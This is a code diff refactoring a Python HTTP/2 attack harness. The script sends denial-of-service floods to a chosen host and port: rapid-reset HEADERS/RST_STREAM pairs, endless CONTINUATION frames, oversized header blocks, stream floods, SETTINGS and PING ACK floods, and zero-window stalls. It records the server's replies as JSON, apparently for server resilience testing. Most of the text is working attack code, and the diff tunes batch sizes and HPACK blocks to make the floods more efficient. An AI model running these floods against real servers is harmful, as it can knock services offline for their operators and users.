@@ -20,8 +20,10 @@ ATTACK is one of:
   zero-window     SETTINGS_INITIAL_WINDOW_SIZE 0, then a GET of --path; never opens the
                   stream's window, waits up to --seconds for the server to end the stream
 
-The JSON: attack; sent (frames of the attack written to the socket); goaway (null or
-{code, last_stream_id}); resets ({code name: count} of RST_STREAM received); statuses
+The JSON: attack; sent (frames of the attack the socket took, pairs for rapid-reset;
+floods stop at a GOAWAY, the close, a stall, --count or --seconds); goaway (null or
+{code, last_stream_id}); resets ({code name: count} of RST_STREAM received) and
+reset_streams (their stream ids); statuses
 ({stream id: :status}); data_bytes (DATA payload received); acks (SETTINGS or PING ACKs
 received); closed (the server ended the connection); stalled (writes stopped being taken
 for a second: the server stopped reading); seconds (time the attack ran).
@@ -36,7 +38,6 @@ import json
 import select
 import socket
 import ssl
-import sys
 import time
 
 import hpack
@@ -71,7 +72,7 @@ ERROR_CODES = {
 }
 SOCKET_BUFFER = 16 * 1024
 # Ciphertext queued in this process before the attack waits for the socket to take it.
-QUEUE_LIMIT = 64 * 1024
+QUEUE_LIMIT = 16 * 1024
 # No byte taken by the server for this long: it stopped reading.
 STALL = 1.0
 
@@ -273,6 +274,17 @@ class Conn:
         ] + list(extra)
         return self.encoder.encode(fields, huffman=False)
 
+    def fixed_block(self, path):
+        """A request's header block that leaves the server's HPACK table as it was (every
+        field from the static table or never indexed), so one block serves any stream."""
+        fields = [
+            (":method", "GET", True),
+            (":scheme", "https", True),
+            (":authority", self.authority, True),
+            (":path", path, True),
+        ]
+        return hpack.Encoder().encode(fields, huffman=False)
+
     def drain(self, until, done=lambda res: False):
         """Read (and send what is queued) until `until` (monotonic), the close, or `done`."""
         while time.monotonic() < until and not self.closed and not done(self.result):
@@ -287,7 +299,8 @@ def flood(conn, make, count, seconds, reading):
     were written and whether writing stalled."""
     sent, stalled = 0, False
     end = time.monotonic() + seconds
-    batch = 64
+    # Batches of about 4 KB, so `sent` is exact to a few frames.
+    batch = max(1, 4096 // len(make(0)))
     while sent < count and time.monotonic() < end:
         if conn.result["goaway"] is not None or conn.closed:
             break
@@ -307,9 +320,114 @@ def flood(conn, make, count, seconds, reading):
     return sent, stalled
 
 
+def get(conn, a, out):
+    conn.start()
+    conn.write(HeadersFrame(1, conn.request_block(a.path), flags=["END_HEADERS", "END_STREAM"]).serialize())
+    out["sent"] = 1
+    conn.drain(time.monotonic() + a.seconds, lambda r: 1 in r["ended"] or 1 in r["reset_streams"])
+
+
+def rapid_reset(conn, a, out):
+    conn.start()
+    block = conn.fixed_block(a.path)
+
+    def pair(i):
+        sid = 1 + 2 * i
+        return (
+            HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
+            + RstStreamFrame(sid, error_code=0x8).serialize()
+        )
+
+    out["sent"], out["stalled"] = flood(conn, pair, a.count or 100_000, a.seconds, reading=True)
+    conn.drain(time.monotonic() + 2)
+
+
+def continuation(conn, a, out):
+    conn.start()
+    # Each CONTINUATION carries four whole literal fields of 1 KB, never indexed (RFC 7541
+    # 6.2.3: no table growth), so only the header list limit can stop them.
+    block = b"".join(
+        b"\x10" + bytes([len(n)]) + n + b"\x7f" + encode_int(len(v) - 127) + v
+        for n, v in [(("x-flood-%d" % i).encode(), b"v" * 1000) for i in range(4)]
+    )
+    conn.write(HeadersFrame(1, conn.request_block(a.path), flags=[]).serialize())
+    one = ContinuationFrame(1, data=block).serialize()
+    out["sent"], out["stalled"] = flood(conn, lambda i: one, a.count or 1_000_000, a.seconds, reading=True)
+    out["bytes_per_frame"] = len(block)
+    conn.drain(time.monotonic() + 2)
+
+
+def big_headers(conn, a, out):
+    conn.start()
+    extra = [("x-big-%d" % i, "b" * 1000) for i in range(a.count or 40)]
+    block = conn.request_block(a.path, extra)
+    # Frames of at most 16 KiB (the default SETTINGS_MAX_FRAME_SIZE).
+    parts = [block[i : i + 16384] for i in range(0, len(block), 16384)]
+    frames = bytearray()
+    for k, part in enumerate(parts):
+        end = ["END_HEADERS"] if k == len(parts) - 1 else []
+        if k == 0:
+            frames += HeadersFrame(1, part, flags=["END_STREAM"] + end).serialize()
+        else:
+            frames += ContinuationFrame(1, part, flags=end).serialize()
+    conn.write(frames)
+    out["sent"] = len(parts)
+    out["header_block_bytes"] = len(block)
+    conn.drain(
+        time.monotonic() + a.seconds,
+        lambda r: "1" in r["statuses"] or 1 in r["reset_streams"] or r["goaway"] is not None,
+    )
+    conn.drain(time.monotonic() + 0.5)
+
+
+def streams(conn, a, out):
+    conn.start()
+    count = a.count or 20
+    block = conn.fixed_block(a.path)
+    frames = bytearray()
+    for i in range(count):
+        frames += HeadersFrame(1 + 2 * i, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
+    conn.write(frames)
+    out["sent"] = count
+
+    conn.drain(time.monotonic() + a.seconds, lambda r: len(r["ended"] | set(r["reset_streams"])) >= count)
+
+
+def ack_flood(one):
+    """A flood of `one` frame over and over, its ACKs not read while flooding."""
+
+    def run(conn, a, out):
+        conn.start()
+        out["sent"], out["stalled"] = flood(conn, lambda i: one, a.count or 1_000_000, a.seconds, reading=False)
+        # Now read what came back (ACKs, a GOAWAY).
+        conn.drain(time.monotonic() + 2)
+
+    return run
+
+
+def zero_window(conn, a, out):
+    conn.open_windows = False
+    conn.start(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
+    conn.write(HeadersFrame(1, conn.request_block(a.path), flags=["END_HEADERS", "END_STREAM"]).serialize())
+    out["sent"] = 1
+    conn.drain(time.monotonic() + a.seconds, lambda r: 1 in r["reset_streams"] or r["goaway"] is not None)
+
+
+ATTACKS = {
+    "get": get,
+    "rapid-reset": rapid_reset,
+    "continuation": continuation,
+    "big-headers": big_headers,
+    "streams": streams,
+    "settings-flood": ack_flood(SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()),
+    "ping-flood": ack_flood(PingFrame(0, opaque_data=b"12345678").serialize()),
+    "zero-window": zero_window,
+}
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
-    p.add_argument("attack")
+    p.add_argument("attack", choices=sorted(ATTACKS))
     p.add_argument("host")
     p.add_argument("port", type=int)
     p.add_argument("--authority", default="localhost")
@@ -320,109 +438,13 @@ def main():
     began = time.monotonic()
     conn = Conn(a.host, a.port, a.authority)
     out = {"attack": a.attack, "sent": 0, "stalled": False}
-    attack = a.attack
-
-    if attack == "get":
-        conn.start()
-        conn.write(HeadersFrame(1, conn.request_block(a.path), flags=["END_HEADERS", "END_STREAM"]).serialize())
-        out["sent"] = 1
-        conn.drain(time.monotonic() + a.seconds, lambda r: 1 in r["ended"] or 1 in r["reset_streams"])
-    elif attack == "rapid-reset":
-        conn.start()
-        count = a.count or 100_000
-
-        def pair(i):
-            sid = 1 + 2 * i
-            return (
-                HeadersFrame(sid, conn.request_block(a.path), flags=["END_HEADERS", "END_STREAM"]).serialize()
-                + RstStreamFrame(sid, error_code=0x8).serialize()
-            )
-
-        out["sent"], out["stalled"] = flood(conn, pair, count, a.seconds, reading=True)
-        conn.drain(time.monotonic() + 2)
-    elif attack == "continuation":
-        conn.start()
-        count = a.count or 1_000_000
-        # Each CONTINUATION carries four whole literal fields of 1 KB, never indexed (RFC
-        # 7541 6.2.3: no table growth), so only the header list limit can stop them.
-        block = b"".join(
-            b"\x10" + bytes([len(n)]) + n + b"\x7f" + encode_int(len(v) - 127) + v
-            for n, v in [(("x-flood-%d" % i).encode(), b"v" * 1000) for i in range(4)]
-        )
-        first = HeadersFrame(1, conn.request_block(a.path), flags=[]).serialize()
-        conn.write(first)
-
-        def cont(i):
-            return ContinuationFrame(1, data=block).serialize()
-
-        out["sent"], out["stalled"] = flood(conn, cont, count, a.seconds, reading=True)
-        out["bytes_per_frame"] = len(block)
-        conn.drain(time.monotonic() + 2)
-    elif attack == "big-headers":
-        conn.start()
-        kib = a.count or 40
-        extra = [("x-big-%d" % i, "b" * 1000) for i in range(kib)]
-        block = conn.request_block(a.path, extra)
-        # Split into frames of at most 16 KiB (the default SETTINGS_MAX_FRAME_SIZE).
-        parts = [block[i : i + 16384] for i in range(0, len(block), 16384)]
-        frames = bytearray()
-        for k, part in enumerate(parts):
-            last = k == len(parts) - 1
-            if k == 0:
-                flags = ["END_STREAM"] + (["END_HEADERS"] if last else [])
-                frames += HeadersFrame(1, part, flags=flags).serialize()
-            else:
-                frames += ContinuationFrame(1, part, flags=["END_HEADERS"] if last else []).serialize()
-        conn.write(frames)
-        out["sent"] = len(parts)
-        out["header_block_bytes"] = len(block)
-        conn.drain(
-            time.monotonic() + a.seconds,
-            lambda r: "1" in r["statuses"] or 1 in r["reset_streams"] or r["goaway"] is not None,
-        )
-        conn.drain(time.monotonic() + 0.5)
-    elif attack == "streams":
-        conn.start()
-        count = a.count or 20
-        frames = bytearray()
-        for i in range(count):
-            frames += HeadersFrame(1 + 2 * i, conn.request_block(a.path), flags=["END_HEADERS", "END_STREAM"]).serialize()
-        conn.write(frames)
-        out["sent"] = count
-
-        def all_ended(r):
-            return len(set(r["statuses"]) | set(str(s) for s in r["reset_streams"])) >= count
-
-        conn.drain(time.monotonic() + a.seconds, all_ended)
-        conn.drain(time.monotonic() + 0.5)
-    elif attack in ("settings-flood", "ping-flood"):
-        conn.start()
-        count = a.count or 1_000_000
-        if attack == "settings-flood":
-            one = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
-        else:
-            one = PingFrame(0, opaque_data=b"12345678").serialize()
-        out["sent"], out["stalled"] = flood(conn, lambda i: one, count, a.seconds, reading=False)
-        # Now read what came back (ACKs, a GOAWAY).
-        conn.drain(time.monotonic() + 2)
-    elif attack == "zero-window":
-        conn.open_windows = False
-        conn.start(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
-        conn.write(HeadersFrame(1, conn.request_block(a.path), flags=["END_HEADERS", "END_STREAM"]).serialize())
-        out["sent"] = 1
-
-        def ended(r):
-            return 1 in r["reset_streams"] or r["goaway"] is not None
-
-        conn.drain(time.monotonic() + a.seconds, ended)
-    else:
-        raise SystemExit("unknown attack %r" % attack)
-
+    ATTACKS[a.attack](conn, a, out)
     res = conn.result
     out.update(
         {
             "goaway": res["goaway"],
             "resets": res["resets"],
+            "reset_streams": res["reset_streams"],
             "statuses": res["statuses"],
             "data_bytes": res["data_bytes"],
             "acks": res["acks"],
@@ -430,8 +452,6 @@ def main():
             "seconds": round(time.monotonic() - began, 3),
         }
     )
-    if attack == "zero-window" or attack == "big-headers":
-        out["reset_streams"] = res["reset_streams"]
     print(json.dumps(out, sort_keys=True))
 
 
